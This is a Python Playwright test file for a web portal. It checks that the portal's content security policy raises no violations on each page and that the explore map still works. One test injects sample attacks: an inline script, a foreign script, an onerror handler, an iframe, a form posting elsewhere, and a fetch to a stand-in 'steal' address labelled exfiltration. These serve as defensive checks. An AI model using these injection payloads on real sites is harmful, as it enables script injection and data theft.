"""In a real browser, on every page: nothing that our own policy refuses, and what it must refuse is refused."""

from __future__ import annotations

from http import HTTPStatus

import pytest
from playwright.sync_api import expect
from tests.browser.conftest import MakeVisitor, Portal, refused, watched
from tests.browser.test_every_page import PLAIN
from tests.portal.test_access import ROUTES, access_of
from tests.security.pages import address_of, role_for

from quietude.portal.accounts.roles import Role

DOWNLOADS = {"protection:assessment", "protection:notice", "users_export", "journal:verifier"}
"""Addresses that hand over a file, which a browser does not show."""
LOOKED_AT = {param.id for param in PLAIN}
"""Pages that are opened under the policy when barriers are looked for: once is enough."""
PAGES = [
    route
    for route in ROUTES
    if access_of(route).answers == "page" and route.name not in DOWNLOADS and route.name not in LOOKED_AT
]
LOOKS: list[int] = []
"""How many pages each role looked at here."""


@pytest.mark.parametrize("role", sorted({role_for(route) for route in PAGES}, key=str), ids=str)
def test_no_page_asks_for_what_our_policy_refuses(visitor: MakeVisitor, portal: Portal, role: Role | None) -> None:
    """Each page that is there for its reader: what has no such thing as a made-up address names is said by one page."""
    someone = watched(visitor(role.value if role is not None else None))
    page, looked = someone.page, 0
    for route in PAGES:
        if role_for(route) != role:
            continue
        address = portal.address + address_of(route, portal.an_event)
        answer = page.request.get(address)
        if answer.status != HTTPStatus.OK or not answer.headers["content-type"].startswith("text/html"):
            continue
        page.goto(address)
        page.wait_for_load_state("networkidle")
        assert refused(someone) == [], route.name
        assert page.evaluate("crossOriginIsolated") is True, route.name
        looked += 1
    page.goto(f"{portal.address}/no/such/page/")
    assert refused(someone) == []
    LOOKS.append(looked)


def test_pages_were_looked_at() -> None:
    if LOOKS:  # the tests before it were run
        assert sum(LOOKS) > 10


def test_the_map_and_the_chart_of_explore_work_under_the_policy(visitor: MakeVisitor) -> None:
    someone = watched(visitor("agent"))
    workers: list[str] = []
    someone.page.on("worker", lambda worker: workers.append(worker.url))
    page = someone.go("/explore/")
    expect(page.locator("canvas.maplibregl-canvas")).to_be_visible()
    page.wait_for_load_state("networkidle")
    assert [url for url in workers if "maplibre-gl-worker" in url]
    assert refused(someone) == []


APPEND = "document.body.insertAdjacentHTML('beforeend', `{}`)"
SCRIPT = "const script = document.createElement('script'); {}; document.body.append(script)"
ATTACKS = [
    pytest.param(SCRIPT.format("script.textContent = 'window.won = 1'"), id="inline-script"),
    pytest.param(SCRIPT.format("script.src = 'https://elsewhere.example/x.js'"), id="script-of-another-server"),
    pytest.param(APPEND.format('<img src=x onerror="window.won = 1">'), id="handler"),
    pytest.param(APPEND.format("<style>body { color: red }</style>"), id="style"),
    pytest.param(APPEND.format('<iframe src="https://elsewhere.example/"></iframe>'), id="frame"),
    pytest.param(APPEND.format('<form id="f" action="https://elsewhere.example/"></form>') + "; f.submit()", id="form"),
    pytest.param("fetch('https://elsewhere.example/steal').catch(() => {})", id="exfiltration"),
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_what_a_planted_script_would_do_is_refused(visitor: MakeVisitor, attack: str) -> None:
    someone = watched(visitor("agent"))
    page = someone.go("/profile/")
    with page.expect_console_message(lambda said: "refused by our policy" in said.text):
        page.evaluate(f"() => {{ {attack} }}")
    assert page.evaluate("window.won") is None
